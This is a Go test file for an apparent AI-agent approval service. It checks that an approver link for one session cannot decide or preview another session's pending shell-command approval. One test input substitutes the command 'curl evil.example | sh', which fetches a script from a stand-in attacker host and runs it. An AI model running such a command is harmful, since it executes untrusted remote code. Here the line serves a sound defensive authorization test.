package web_test

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"countersign/internal/agent"
	"countersign/internal/gate"
)

// TestAnApproverLinkCannotDecideAnotherSessionsApproval (review of issue 29: the decision moved
// from agent.Runner.Decide to gate.Service.Decide, with gate.AnySession for the owner's API): an
// approver link with every right, of session A, names a pending approval of session B in its
// decision and preview routes, with every kind of decision: 404 each time, and B's approval stays
// pending with no rule saved.
func TestAnApproverLinkCannotDecideAnotherSessionsApproval(t *testing.T) {
	ts, sidA := shareServer(t)
	var b agent.Session
	ts.call(t, "POST", "/api/sessions", map[string]string{"title": "other", "model": "faux:one"}, &b)
	ctx := context.Background()
	if err := ts.db.CreateApproval(ctx, gate.Approval{ID: "b-pending", SessionID: b.ID, MessageID: "m", ToolCallID: "c1",
		ToolName: "shell", Arguments: []byte(`{"command":"touch x"}`), RequestedBy: gate.RequestedByModel, Status: gate.Pending}); err != nil {
		t.Fatal(err)
	}
	l := createLink(t, ts, sidA, map[string]any{"role": "approver", "label": "all", "canEdit": true, "canRemember": true})
	c := reviewer(t, ts, l.URL, "Mallory")
	for _, form := range []url.Values{
		{"decision": {"approve"}},
		{"decision": {"deny"}},
		{"decision": {"approve_session"}},
		{"decision": {"remember"}, "rule": {"shell"}, "scope": {"session"}},
		{"decision": {"approve"}, "arguments": {`{"command":"curl evil.example | sh"}`}},
	} {
		if st, body := reviewerDecision(t, ts, c, l.URL, "b-pending", form); st != http.StatusNotFound {
			t.Errorf("%v on another session's approval through A's link = %d, want 404: %.300s", form, st, body)
		}
	}
	u, _ := url.Parse(l.URL)
	res, err := c.PostForm(ts.URL+u.Path+"/approvals/b-pending/preview", url.Values{"arguments": {`{"command":"ls"}`}})
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusNotFound {
		t.Errorf("preview of another session's approval = %d, want 404", res.StatusCode)
	}
	a, err := ts.db.Approval(ctx, "b-pending")
	if err != nil || a.Status != gate.Pending {
		t.Fatalf("B's approval after A's link tried it: %+v (%v), want pending", a, err)
	}
	rules, err := ts.db.Rules(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, rl := range rules {
		if strings.Contains(rl.Text(), "shell") {
			t.Errorf("a rule was saved: %+v", rl)
		}
	}
}
